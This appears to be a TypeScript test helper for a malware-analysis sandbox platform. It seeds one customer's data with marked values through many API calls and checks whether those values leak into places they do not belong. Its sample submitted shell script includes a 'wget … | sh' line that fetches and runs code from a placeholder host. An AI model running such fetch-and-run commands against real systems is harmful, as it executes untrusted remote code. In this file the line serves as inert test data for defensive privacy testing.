import { randomBytes } from 'node:crypto';
import type { FakeGuest } from '../../sandbox-runner/machines/fake-machines.ts';
import { system } from '../../platform/caller.ts';
import { allTold, hashOf, quietGuest, send, type Assay } from '../assay.ts';
import { traceKey } from '../kernel-trace.ts';
import { zip } from '../samples/binaries.ts';
import { waitUntil } from '../wait-until.ts';

/** A value that names somebody, and what it was given as. */
export interface Seed {
  what: string;
  value: string;
  /** Places where it is to be read. */
  home?: RegExp;
}

/** Stands in all values of this process. */
export const mark = randomBytes(8).toString('hex');

/** What a script does in the guest below, by its comments. */
const does = (script: string, what: string): string | undefined => new RegExp(`# ${what} (\\S+)`).exec(script)?.[1];

/**
 * A guest in which a script looks up a name, starts a program with an argument, writes a file and prints a word where
 * its comments say so, as the network and the kernel of a real one record it.
 */
export const lookingUp: FakeGuest = async (script, files) => {
  const answer = await quietGuest(script, files);
  const sample = [...files.values()].map((bytes) => bytes.toString('latin1')).find((text) => does(text, 'looks up'));
  if (!sample || !script.includes('detonate.sh')) return answer;
  const [name, argument, file, word] = ['looks up', 'runs with', 'writes', 'prints'].map((what) => does(sample, what));
  files.set('/run/assay/network.jsonl', Buffer.from(`${JSON.stringify({ kind: 'dns', t: 1, name, type: 1, answer: '10.0.0.1' })}\n`));
  const line = (call: string, rest: string) => `bash-100 [000] ..... 1.500000: ${call}_${traceKey}: ${rest}`;
  const seen = [
    ...(argument ? [
      line('execve', `(0x0) f="/bin/grep" p0=0x1 a0="grep" p1=0x1 a1="${argument}" p2=0x0`),
      line('exec', '(sched.sched_process_exec) f="/bin/grep"'),
    ] : []),
    ...(file ? [line('openat', `(0x0) f="${file}" flags=0x241`)] : []),
  ];
  const trace = files.get('/run/assay/trace')!.toString().trimEnd();
  files.set('/run/assay/trace', Buffer.from(`${[trace, ...seen].join('\n')}\n`));
  if (word) files.set('/run/assay/stdout', Buffer.from(`hello ${word}\n`));
  return answer;
};

/** Where people and devices sign in, and the customer's own record of who let them. */
const signIn = /^(?:customers\.|audit\.audit_event$|file postgres\/)/;

/** Values of one customer, each given in one of the ways in which people are named; the sample's hash tells that the search finds what is there. */
export async function seed(assay: Assay): Promise<{ seeds: Seed[]; hash: string }> {
  const seeds: Seed[] = [];
  const secret = (what: string, before: string, after = '', home?: RegExp): string => {
    const value = `${before}${mark}${randomBytes(3).toString('hex')}${after}`;
    seeds.push({ what, value, ...(home ? { home } : {}) });
    return value;
  };
  const { administrator, devices: [device] } = await assay.customer();
  const act = async <T extends object>(token: string, name: string, input: object, answer = ''): Promise<T> => {
    const query = `mutation ($input: ${name[0]!.toUpperCase()}${name.slice(1)}Input!) { ${name}(input: $input) { ${answer} userErrors { code message field } } }`;
    const { data, errors } = await assay.ask<Record<string, T & { userErrors: object[] }>>(token, query, { input });
    if (errors ?? data[name]!.userErrors.length > 0) throw new Error(JSON.stringify({ data, errors }));
    return data[name]!;
  };
  const ask = async <T>(token: string, query: string, variables: object = {}): Promise<T> => (await assay.ask<T>(token, query, { ...variables })).data;
  const { database } = assay.platform.subgraphs.find(({ name }) => name === 'samples')!.platform;
  /** Waits until what was submitted is analysed. */
  const analysed = async ({ id }: { id: string }) => {
    const { state, failure_message: failure } = await waitUntil(async () => {
      const [row] = await database.for(system).execute<{ state: string; failure_message: string | null }[]>('select state, failure_message from submission where id = ?', [id]);
      return row && ['ANALYZED', 'FAILED', 'EXPIRED'].includes(row.state) ? row : null;
    }, { timeout: 240_000, interval: 250 });
    if (state !== 'ANALYZED') throw new Error(`${state}: ${failure}`);
  };
  const place = () => ({ path: `/home/${secret('folder', 'person-')}/desk`, process: secret('process', 'browser-'), user: secret('person', 'clerk-') });

  const script = Buffer.from(['#!/bin/sh', `# looks up ${secret('name looked up', 'db7-', '.example')}`, `# runs with ${secret('command line', 'salary-of-')}`,
    `# writes /home/${secret('file written', 'plan-')}.txt`, `# prints ${secret('text shown', 'greeting-')}`,
    `wget -q http://${secret('address in a script', 'intranet-', '.example')}/x | sh`, ''].join('\n'));
  const submission = await send(assay, device!, script, {
    fileName: `${secret('file name', 'Layoffs-')}.sh`, localScore: null, ...place(), origin: 'MAIL', mail: { senderDomain: secret('sender domain', 'sender-', '.example'), verified: false },
    signer: { name: secret('signer', 'Signer '), certificateSha256: 'c'.repeat(64) },
  });
  await analysed(submission);
  const asked = await send(assay, device!, script, { localScore: null, arguments: [secret('argument', 'word-')], answers: [secret('answer', 'line-')] });
  const archive = zip({ [`${secret('name in an archive', 'bonus-')}.sh`]: '#!/bin/sh\necho hello\n' });
  const packed = await send(assay, device!, archive, { fileName: 'all.zip', category: 'ARCHIVE', localScore: null, archivePassword: secret('archive password', 'opened-by-') });
  await analysed(packed);

  // What a gateway and a device tell besides.
  await act(device!, 'heldMessageReport', {
    key: `m${Date.now()}`, sender: secret('sender', 'boss-', '@corp.example'), recipients: [secret('recipient', 'clerk-', '@corp.example')],
    subject: secret('subject', 'about '), outcome: secret('word of a mail server', '550 no '), size: 10, receivedAt: new Date().toISOString(),
    until: new Date(Date.now() + 60_000).toISOString(), state: 'HELD', parts: [{ submissionId: submission.id, link: `https://files.example/${secret('link', 'for-')}` }],
  });
  await act(device!, 'sightingsReport', { sightings: [
    { sha256: hashOf(randomBytes(8)), size: 1, fileName: secret('file met', 'contract-'), origin: 'WEB', category: 'DOCUMENT', ...place() },
  ] });
  const { objects } = await act<{ objects: { id: string }[] }>(device!, 'quarantineReport', { objects: [
    { localId: 'one', sha256: hashOf(script), fileName: secret('file taken away', 'taken-'), path: `/home/${secret('folder that it lay in', 'person-')}` },
  ] }, 'objects { id }');
  const { task } = await act<{ task: { id: string } }>(administrator, 'quarantineTaskIssue', { objectId: objects[0]!.id, action: 'DELETE', reason: 'old' }, 'task { id }');
  await act(device!, 'quarantineTaskReport', { taskId: task.id, done: false, message: secret('fault on a device', 'cannot delete ') });
  const { verdict } = await ask<{ verdict: { id: string } }>(device!, 'query ($sha256: Sha256!) { verdict(sha256: $sha256) { id } }', { sha256: hashOf(script) });
  await act(device!, 'deliveryAcknowledge', { verdictId: verdict.id, state: 'FAILED', message: secret('fault of a delivery', 'in use by ') });
  const log = Buffer.from(secret('log of a device', 'opened /home/'));
  const { upload } = await act<{ upload: { url: string; token: string } }>(device!, 'diagnosticSubmit', {
    kind: 'LOG', fileName: secret('name of a log', 'trace-'), size: log.length, sha256: hashOf(log), description: secret('report of a user', 'it began when '),
  }, 'upload { url token }');
  const sent = await fetch(upload.url, { method: 'PUT', body: log, headers: { authorization: `Bearer ${upload.token}` } });
  if (!sent.ok) throw new Error(`the log was answered by ${sent.status}: ${await sent.text()}`);

  // Who people and devices are.
  const { devices } = await ask<{ devices: { nodes: { id: string }[] } }>(administrator, '{ devices(first: 1) { nodes { id } } }');
  await act(administrator, 'deviceUpdate', { deviceId: devices.nodes[0]!.id, name: secret('device', 'laptop-of-', '', signIn) });
  await act(administrator, 'userCreate', { email: secret('mail address', 'user-', '@corp.example', signIn), password: secret('password', 'a long enough '), role: 'VIEWER' });
  await act(administrator, 'apiKeyCreate', { name: secret('name of a key', 'key-of-', '', signIn), scopes: ['verdicts:read'], validDays: 1 });
  await analysed(asked);
  await allTold(assay);
  return { seeds, hash: hashOf(script) };
}

/** What a search found of them where it is not to be read. */
export const strays = (seeds: readonly Seed[], found: readonly { value: string; where: string }[]): string[] =>
  found.flatMap(({ value, where }) => {
    const { what, home } = seeds.find((one) => one.value === value)!;
    return home?.test(where) ? [] : [`${what} in ${where}`];
  });
